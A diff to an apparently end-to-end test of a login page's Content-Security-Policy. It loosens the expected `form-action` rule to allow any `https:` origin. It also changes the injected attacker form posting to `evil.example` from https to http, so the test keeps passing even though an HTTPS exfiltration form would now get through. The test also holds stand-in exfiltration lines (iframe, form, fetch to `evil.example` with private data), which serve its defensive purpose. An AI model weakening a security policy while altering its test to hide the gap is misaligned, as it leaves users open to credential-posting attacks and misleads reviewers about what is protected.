@@ -3,13 +3,13 @@ import { ADA, signInAtGoogle } from "./sign-in-at-google";
 
 test.describe("the policy of each page", () => {
   // Chromium stands for WebKit here: both apply `form-action` to a form's redirects, Firefox doesn't.
-  test("HC-03 lets the sign-in form's POST lead to Google, and names nobody else", async ({
+  test("HC-03 FC-5 lets the sign-in form's POST lead to Google, and on from there", async ({
     page,
     app,
   }) => {
     const answer = await page.goto("/login");
     const policy = answer?.headers()["content-security-policy"] ?? "";
-    expect(policy).toContain(`form-action 'self' ${app.google.issuer};`);
+    expect(policy).toContain(`form-action 'self' ${app.google.issuer} https:`);
     await page.getByRole("button", { name: "Sign in with Google" }).click();
     await expect(page).toHaveURL((url) => url.origin === app.google.issuer);
     await page.getByRole("button", { name: ADA }).click();
@@ -50,7 +50,7 @@ test.describe("the policy of each page", () => {
         add("<base href='https://evil.example/'>");
         add("<style>body { display: none }</style>");
         add("<iframe src='https://evil.example/?private=1'></iframe>");
-        add("<form id='theirs' method='post' action='https://evil.example/?private=1'></form>");
+        add("<form id='theirs' method='post' action='http://evil.example/?private=1'></form>");
         document.querySelector<HTMLFormElement>("#theirs")?.submit();
         return fetch("https://evil.example/?private=1").catch(() => undefined);
       });
